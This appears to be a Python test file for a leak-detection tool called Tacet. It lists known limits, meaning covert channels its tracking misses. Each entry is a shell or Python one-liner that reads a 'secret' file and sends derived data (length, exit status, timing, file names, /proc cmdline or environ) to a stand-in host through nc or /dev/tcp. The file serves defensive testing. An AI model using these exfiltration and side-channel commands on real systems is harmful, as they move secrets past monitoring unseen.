# SPDX-License-Identifier: GPL-3.0-or-later
"""Leaks that Tacet does not see, as docs/user/limits.md tells: each row with its reason."""

from tests.kernel.guest_run import CONTENT, SECRET
from tests.leaks.row import Leak, exactly, holds, snippet

CHANCE = "the scrubbed data gives the same answer"
LENGTH = "the scrubbed copy is as long"
STATUS = "a process is told how its child ended: an exit status is no output"
NAMES = "names and what else the system says of a file are not followed to whoever looks them up"
TIME = "only bytes are compared, not when they come"
TERMINAL = "a terminal is exempt if its reader is a window on the screen"
PROC = "what the system says of a process is not followed to whoever looks it up"
NUMBER = "counters and times of the kernel are not followed to whoever reads them"

LIMITS = [
    # Equal by chance.
    Leak("bit-that-is-equal", snippet("send(b'%d' % (read()[0] & 1))"), shows=exactly(b"0"), limit=CHANCE),
    Leak("letter-that-is-equal", "head -c 23 secret | tail -c 1 | nc remote 9", shows=exactly(b"x"), limit=CHANCE),
    Leak("answer-that-is-equal", "grep -q Zebra secret && x=yes; grep -c Zebra secret | nc remote 9", shows=exactly(b"0"), limit=CHANCE),
    Leak("line-breaks", "tr -cd '\\n' < secret | xxd -p | nc remote 9", shows=exactly(b"0a0a0a"), limit=CHANCE),
    # Equal in length.
    Leak("bytes", "wc -c < secret | nc remote 9", shows=exactly(b"%d" % len(CONTENT)), limit=LENGTH),
    Leak("lines", "wc -l < secret | nc remote 9", shows=exactly(b"3"), limit=LENGTH),
    Leak("words", "wc -w < secret | nc remote 9", shows=exactly(b"3"), limit=LENGTH),
    Leak("longest-line", "wc -L < secret | nc remote 9", shows=exactly(b"21"), limit=LENGTH),
    Leak("size", "stat -c %s secret | nc remote 9", shows=exactly(b"%d" % len(CONTENT)), limit=LENGTH),
    Leak("length-of-file", snippet("send(b'.' * len(read()))"), shows=exactly(b"." * len(CONTENT)), limit=LENGTH),
    # Covert.
    Leak("exit-status", "grep -q Sphinx secret; echo $? | nc remote 9", shows=exactly(b"0"), limit=STATUS),
    Leak("branch-of-shell", "if grep -q Sphinx secret; then echo early; else echo later; fi | nc remote 9",
         shows=exactly(b"early"), limit=STATUS),
    Leak("choice-of-message", "grep -q Zebra secret || echo later > /dev/tcp/remote/9", shows=exactly(b"later"), limit=CHANCE),
    Leak("file-name", "sed -n 2p secret | xargs touch; ls anna* | nc remote 9", limit=NAMES),
    Leak("symbolic-link", "sed -n 2p secret | xargs -I X ln -s X link; readlink link | nc remote 9", limit=NAMES),
    Leak("file-time", "way file-time secret", shows=exactly(SECRET[:4]), limit=NAMES),
    Leak("file-size", "touch other; grep -q Sphinx secret && truncate -s 7 other; stat -c %s other | nc remote 9",
         shows=exactly(b"7"), limit=STATUS),
    Leak("delay", "grep -q Sphinx secret && sleep 0.2; echo now > /dev/tcp/remote/9", shows=exactly(b"now"), limit=TIME),
    # Data that the system gives back or tells.
    Leak("terminal-window", "way terminal-window secret", limit=TERMINAL),
    Leak("counter-of-another", "way counter-of-another secret", shows=exactly(SECRET[:8]), limit=NUMBER),
    Leak("timer", "way timer secret", shows=exactly(SECRET[:4]), limit=NUMBER),
    Leak("arguments-seen-from-outside", "bash -c 'sleep 1; true' \"$(sed -n 2p secret)\" & sleep 0.3; cat /proc/$!/cmdline | tr '\\0' . | "
         "nc remote 9", shows=holds(SECRET), limit=PROC),
    Leak("environment-seen-from-outside", "X=$(sed -n 2p secret) sleep 1 & sleep 0.3; "
         "tr '\\0' '\\n' < /proc/$!/environ | grep ^X= | nc remote 9", limit=PROC),
]
